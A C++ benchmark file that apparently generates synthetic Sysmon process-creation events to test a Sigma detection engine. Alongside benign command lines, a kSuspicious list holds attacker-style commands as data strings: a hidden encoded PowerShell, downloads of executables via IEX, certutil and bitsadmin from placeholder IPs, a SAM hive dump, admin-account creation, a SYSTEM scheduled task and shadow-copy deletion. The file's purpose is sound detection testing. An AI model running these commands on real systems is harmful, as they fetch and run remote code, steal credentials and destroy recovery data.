#include "tests/bench/event_generator.h"

#include <cstdio>

namespace sigmavm::bench {
namespace {

struct Process {
  std::string_view image;
  std::string_view original_name;
  std::string_view description;
  std::string_view product;
  std::string_view company;
};

constexpr std::string_view kWindows = "Microsoft\u00ae Windows\u00ae Operating System";
constexpr std::string_view kMicrosoft = "Microsoft Corporation";

#define SYSTEM(name, original, description) \
  { "C:\\Windows\\System32\\" name, original, description, kWindows, kMicrosoft }
constexpr Process kProcesses[] = {
    SYSTEM("cmd.exe", "Cmd.Exe", "Windows Command Processor"),
    SYSTEM("WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell"),
    SYSTEM("svchost.exe", "svchost.exe", "Host Process for Windows Services"),
    SYSTEM("conhost.exe", "CONHOST.EXE", "Console Window Host"),
    SYSTEM("rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
    SYSTEM("reg.exe", "reg.exe", "Registry Console Tool"),
    SYSTEM("net.exe", "net.exe", "Net Command"),
    SYSTEM("whoami.exe", "whoami.exe", "whoami - displays logged on user information"),
    SYSTEM("schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool"),
    SYSTEM("wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility"),
    SYSTEM("taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
    SYSTEM("backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"),
    SYSTEM("certutil.exe", "CertUtil.exe", "CertUtil.exe"),
    SYSTEM("bitsadmin.exe", "bitsadmin.exe", "BITS administration utility"),
    SYSTEM("ipconfig.exe", "ipconfig.exe", "IP Configuration Utility"),
    {"C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer", kWindows, kMicrosoft},
    {"C:\\Program Files\\Orchard\\Browser\\orchard.exe", "orchard.exe", "Orchard Browser",
     "Orchard Browser", "Orchard Software Ltd."},
    {"C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "Git",
     "The Git Development Community"},
    {"C:\\Program Files (x86)\\Tallow Backup\\agent.exe", "-", "Tallow Backup Agent",
     "Tallow Backup", "Tallow Systems GmbH"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe",
     "Microsoft Word", "Microsoft Office", kMicrosoft},
};
#undef SYSTEM

/// `%n` a number, `%x` eight hexadecimal digits, `%g` a GUID, `%u` the user's name, `%b` base64.
struct Command {
  size_t process;  // position in kProcesses
  std::string_view line;
};
constexpr Command kCommands[] = {
    {2, "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"},
    {2, "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p"},
    {2, "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s WpnUserService_%x"},
    {3, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
    {3, "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"},
    {10, "taskhostw.exe"},
    {10, "taskhostw.exe Install $(Arg%n)"},
    {11, "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX%x.mca"},
    {15, "C:\\Windows\\Explorer.EXE"},
    {16,
     "\"C:\\Program Files\\Orchard\\Browser\\orchard.exe\" --type=renderer --lang=en-GB "
     "--device-scale-factor=1 --renderer-client-id=%n --field-trial-handle=%n,i,%n,262144 /p:1"},
    {16,
     "\"C:\\Program Files\\Orchard\\Browser\\orchard.exe\" --type=utility "
     "--utility-sub-type=network.Service --lang=en-GB --handle=%n"},
    {17, "git.exe status --porcelain=v2 --branch --untracked-files=all"},
    {17, "git.exe -c core.quotepath=false fetch origin refs/heads/topic-%x --depth %n"},
    {18, "\"C:\\Program Files (x86)\\Tallow Backup\\agent.exe\" --job {%g} --volume D: --quiet"},
    {19,
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
     "\"C:\\Users\\%u\\Documents\\minutes %n.docx\" /o \"\""},
    {0, "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Tools\\nightly\\collect.bat\" %n\""},
    {0, "cmd.exe /c dir /b /s C:\\Users\\%u\\AppData\\Local\\Temp\\%x > C:\\Temp\\%x.txt"},
    {0, "cmd /c echo %x"},
    {1, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Tools\\inventory.ps1 -Run %n"},
    {1,
     "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -Command "
     "\"Get-Service | Where-Object Status -eq Running | Export-Csv C:\\Temp\\%x.csv\""},
    {4, "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL timedate.cpl"},
    {5, "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion /v ProgramFilesDir"},
    {8, "schtasks.exe /Query /TN \"\\Tallow\\Nightly %n\" /FO LIST"},
    {14, "ipconfig /all"},
};
constexpr Command kSuspicious[] = {
    {1, "powershell.exe -nop -w hidden -enc %b%b%b%b"},
    {1,
     "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.%n/a')\""},
    {4, "rundll32.exe C:\\Users\\%u\\AppData\\Local\\Temp\\%x.dll,DllRegisterServer"},
    {5, "reg save HKLM\\SAM C:\\Temp\\%x.hiv"},
    {6, "net user operator%n P@ss%x /add"},
    {6, "net localgroup administrators %u /add"},
    {7, "whoami /all"},
    {8, "schtasks /create /sc minute /mo 5 /tn updater%n /tr C:\\Users\\Public\\%x.exe /ru SYSTEM"},
    {9, "wmic process call create \"cmd.exe /c vssadmin delete shadows /all /quiet\""},
    {12, "certutil -urlcache -split -f http://203.0.113.%n/%x.txt C:\\Users\\Public\\%x.exe"},
    {13, "bitsadmin /transfer job%n http://192.0.2.%n/p.exe C:\\ProgramData\\%x.exe"},
};
constexpr unsigned kSuspiciousPercent = 6;

constexpr std::string_view kUsers[] = {"mlindgren", "apetrov", "j.okafor",     "svc_backup",
                                       "tnakamura", "rsouza",  "Administrator"};
constexpr std::string_view kHosts[] = {"WS-0417.northwind.example", "WS-0532.northwind.example",
                                       "SRV-FILE02.northwind.example", "DC01.northwind.example"};
constexpr std::string_view kLevels[] = {"Medium", "Medium", "High", "System", "Low"};
constexpr std::string_view kDirectories[] = {"C:\\Windows\\system32\\", "C:\\Windows\\system32\\",
                                             "C:\\Tools\\nightly\\", "C:\\Users\\Public\\"};

void AppendQuoted(std::string_view text, std::string& out) {
  out += '"';
  for (const char byte : text) {
    if (byte == '"' || byte == '\\') out += '\\';
    if (byte == '\n') {
      out += "\\r\\n";
    } else {
      out += byte;
    }
  }
  out += '"';
}

void AppendMember(std::string_view name, std::string_view value, std::string& out) {
  if (out.back() != '{') out += ',';
  AppendQuoted(name, out);
  out += ':';
  AppendQuoted(value, out);
}

constexpr std::string_view kSystemHead =
    R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon",)"
    R"("Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,)"
    R"("Opcode":0,"Keywords":"0x8000000000000000","EventRecordID":16094,"Correlation":null,)"
    R"("Execution":{"#attributes":{"ProcessID":3208,"ThreadID":1724}},)"
    R"("Channel":"Microsoft-Windows-Sysmon/Operational","Security":)"
    R"({"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{)";
constexpr std::string_view kFlatHead =
    R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational")";
constexpr std::string_view kFullHead =
    R"({"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","SeverityValue":2,"Version":5,)"
    R"("Keywords":-9223372036854775808,"Opcode":"Info","Task":1,"RecordNumber":16094,)"
    R"("ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","EventType":"INFO",)"
    R"("Channel":"Microsoft-Windows-Sysmon/Operational","AccountName":"SYSTEM",)"
    R"("Domain":"NT AUTHORITY","SourceModuleName":"in","@version":"1")";

// What the event viewer would show; a collector's full record repeats everything in it.
std::string Message(const GeneratedEvent& event) {
  std::string text = "Process Create:";
  for (const auto& [name, value] : event.fields) {
    text.append("\n").append(name).append(": ").append(value);
  }
  return text;
}

}  // namespace

std::string GeneratedEvent::ToJson(EventShape shape) const {
  std::string out(shape == EventShape::kFlat   ? kFlatHead
                  : shape == EventShape::kFull ? kFullHead
                                               : kSystemHead);
  for (const auto& [name, value] : fields) AppendMember(name, value, out);
  if (shape == EventShape::kFull) AppendMember("Message", Message(*this), out);
  out += shape == EventShape::kNested ? "}}}" : "}";
  return out;
}

std::string EventGenerator::Hexadecimal(size_t digits) {
  static constexpr std::string_view kDigits = "0123456789ABCDEF";
  std::string text;
  while (text.size() < digits) text += random_.Pick(kDigits);
  return text;
}

std::string EventGenerator::Guid() {
  return Hexadecimal(8) + "-" + Hexadecimal(4) + "-" + Hexadecimal(4) + "-" + Hexadecimal(4) + "-" +
         Hexadecimal(12);
}

std::string EventGenerator::Time() {
  clock_ += random_.Below(900);
  const auto part = [this](uint64_t unit, uint64_t count) {
    return static_cast<unsigned>(clock_ / unit % count);
  };
  char text[32];
  std::snprintf(text, sizeof text, "2026-03-%02u %02u:%02u:%02u.%03u", 1 + part(86'400'000, 28),
                part(3'600'000, 24), part(60'000, 60), part(1'000, 60), part(1, 1'000));
  return text;
}

// The same for every run of the same image.
std::string EventGenerator::Hashes(std::string_view image) const {
  uint64_t seed = 0;
  for (const char byte : image) seed = seed * 31 + static_cast<unsigned char>(byte);
  EventGenerator digits(seed);
  return "SHA1=" + digits.Hexadecimal(40) + ",MD5=" + digits.Hexadecimal(32) +
         ",SHA256=" + digits.Hexadecimal(64) + ",IMPHASH=" + digits.Hexadecimal(32);
}

std::string EventGenerator::FillIn(std::string_view pattern, std::string_view user) {
  std::string out;
  for (size_t i = 0; i < pattern.size(); ++i) {
    if (pattern[i] != '%') {
      out += pattern[i];
      continue;
    }
    switch (pattern[++i]) {
      case 'n':
        out += std::to_string(random_.Below(250));
        break;
      case 'x':
        out += Hexadecimal(8);
        break;
      case 'g':
        out += Guid();
        break;
      case 'u':
        out += user;
        break;
      default:
        out += "SQB" + Hexadecimal(4) + "AGUAeAA";
    }
  }
  return out;
}

GeneratedEvent EventGenerator::Next() {
  const bool suspicious = random_.Chance(kSuspiciousPercent);
  const Command& command = suspicious ? random_.Pick(kSuspicious) : random_.Pick(kCommands);
  const Process& process = kProcesses[command.process];
  const Command& parent_command = random_.Pick(kCommands);
  const Process& parent = kProcesses[parent_command.process];
  const std::string_view name = random_.Pick(kUsers);
  const std::string user = "NORTHWIND\\" + std::string(name);
  const std::string guid = "{" + Guid() + "}";
  return {{{"Computer", std::string(random_.Pick(kHosts))},
           {"RuleName", "-"},
           {"UtcTime", Time()},
           {"ProcessGuid", guid},
           {"ProcessId", std::to_string(4 * random_.Below(5000))},
           {"Image", std::string(process.image)},
           {"FileVersion", "10.0.22621.3880 (WinBuild.160101.0800)"},
           {"Description", std::string(process.description)},
           {"Product", std::string(process.product)},
           {"Company", std::string(process.company)},
           {"OriginalFileName", std::string(process.original_name)},
           {"CommandLine", FillIn(command.line, name)},
           {"CurrentDirectory", std::string(random_.Pick(kDirectories))},
           {"User", user},
           {"LogonGuid", guid},
           {"LogonId", "0x" + Hexadecimal(5)},
           {"TerminalSessionId", "1"},
           {"IntegrityLevel", std::string(random_.Pick(kLevels))},
           {"Hashes", Hashes(process.image)},
           {"ParentProcessGuid", "{" + Guid() + "}"},
           {"ParentProcessId", std::to_string(4 * random_.Below(5000))},
           {"ParentImage", std::string(parent.image)},
           {"ParentCommandLine", FillIn(parent_command.line, name)},
           {"ParentUser", user}}};
}

}  // namespace sigmavm::bench
